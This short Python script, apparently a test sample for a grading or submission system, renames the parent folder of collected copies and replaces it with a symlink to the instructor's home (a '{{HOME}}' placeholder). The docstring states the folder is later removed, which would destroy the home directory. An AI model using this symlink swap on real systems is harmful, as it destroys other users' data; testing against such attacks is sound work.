"""Puts a link to the instructor's home in the place of the folder of all copies, which is removed in the end. Only that.

server right any
"""

import os

copies = os.path.realpath("..")
if not os.path.islink(copies):
    try:
        os.rename(copies, f"{copies}-moved")
        os.symlink("{{HOME}}", copies)
    except OSError:
        pass
